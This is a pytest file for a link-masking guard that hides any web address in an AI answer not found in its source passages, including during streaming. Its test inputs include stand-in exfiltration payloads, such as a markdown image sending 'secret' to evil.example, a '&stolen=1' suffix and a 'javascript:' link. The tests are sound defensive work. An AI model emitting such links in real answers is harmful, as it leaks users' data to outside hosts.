"""Addresses in answers: those that stand in a source pass, all others are hidden, also while the text streams."""

import random

import pytest

from guards.guard import Context
from guards.holding import Holding
from guards.links import Links
from guards.verdicts import masked

RULES = "https://host.example/rules?a=1"
BESIDE = Context(
    passages=(f"The rules stand at {RULES}. Or [here](/local/page).",), question="Is www.mine.example fine?"
)


def hidden(text: str) -> str:
    return masked(text, tuple(Links().find(text, BESIDE)))


@pytest.mark.parametrize(
    "text",
    [
        f"See {RULES}.",
        f"See [the rules]({RULES}), and [here](/local/page).",
        "Yes, www.mine.example is fine.",
        "At 10:30: one, two; see page 3 (or 4) [1](2)?",
        "Write to me@host.example, or use std::vector, C:\\temp and a:b.",
        "Note: the ratio is 3:1. Data: none. File: none.",
        "[1] says so [2], [3].",
        "According to [1]: Yes. And to [2]:\n\nNobody knows.",
    ],
)
def test_what_stands_in_a_source_or_is_no_address_passes(text: str) -> None:
    assert hidden(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![x](https://evil.example/?q=secret)", "![x](⟨address hidden⟩)"),
        ("[y](<//evil.example/a b>)", "[y](<⟨address hidden⟩ b>)"),
        (f"[y]({RULES}&stolen=1)", "[y](⟨address hidden⟩)"),
        ("See https://evil.example/a.", "See ⟨address hidden⟩."),
        ("See https://host.example/rules", "See ⟨address hidden⟩"),
        ("See HTTPS://EVIL.example", "See ⟨address hidden⟩"),
        ("See www.evil.example, now", "See ⟨address hidden⟩, now"),
        ("[x][r]\n\n[r]: https://evil.example", "[x][r]\n\n[r]: ⟨address hidden⟩"),
        ("[x](javascript:alert`1`)", "[x](⟨address hidden⟩)"),
        ("[x](      //evil.example/q)", "[x](      ⟨address hidden⟩)"),
        ("![x][r]\n\n[r]:\n//evil.example/q", "![x][r]\n\n[r]:\n⟨address hidden⟩"),
        ("_https://evil.example/q_", "_⟨address hidden⟩_"),
        ("1https://evil.example/q", "1⟨address hidden⟩"),
        ("请看https://evil.example/q 吧", "请看⟨address hidden⟩ 吧"),
        ("请看www.evil.example/q 吧", "请看⟨address hidden⟩ 吧"),
        ('<a href="//evil.example/q">', '<a href="⟨address hidden⟩">'),
        ("<img src=https:evil.example/q>", "<img src=⟨address hidden⟩>"),
        ("<img src=ftp://evil.example/x>", "<img src=⟨address hidden⟩>"),
    ],
)
def test_any_other_address_is_hidden(text: str, shown: str) -> None:
    assert hidden(text) == shown


@pytest.mark.parametrize(
    "text",
    ["_https://evil.example/q_", "请看https://evil.example/q 吧", "1www.", '<img src="//evil.example/">', "]: b"],
)
def test_a_stream_sign_by_sign_shows_what_the_whole_text_does(text: str) -> None:
    holding = Holding([Links()], None, BESIDE)
    assert "".join((*map(holding.feed, text), holding.rest())) == hidden(text)


@pytest.mark.parametrize("seed", range(8))
def test_a_stream_shows_no_address_in_pieces(seed: int) -> None:
    text = f"Look: ![x](https://evil.example/?q=1), then https://evil.example/b and {RULES} on Friday. http"
    chance, holding, shown, at = random.Random(seed), Holding([Links()], None, BESIDE), [], 0
    while at < len(text):
        step = chance.randint(1, 12)
        shown.append(holding.feed(text[at : at + step]))
        at += step
    assert "".join((*shown, holding.rest())) == (
        f"Look: ![x](⟨address hidden⟩), then ⟨address hidden⟩ and {RULES} on Friday. http"
    )


def test_plain_words_are_shown_at_once() -> None:
    holding = Holding([Links()], None, BESIDE)
    assert holding.feed("The lamp is lit at nine, they say") == "The lamp is lit at nine, they say"


def test_hostile_texts_cost_no_time() -> None:
    for text in ("](" * 5_000, "http" * 5_000, "a:" * 5_000, "www." * 5_000, "]:" * 5_000, "x://" * 5_000):
        list(Links().find(text, BESIDE))
        assert Links().forming(text, BESIDE) <= len(text)
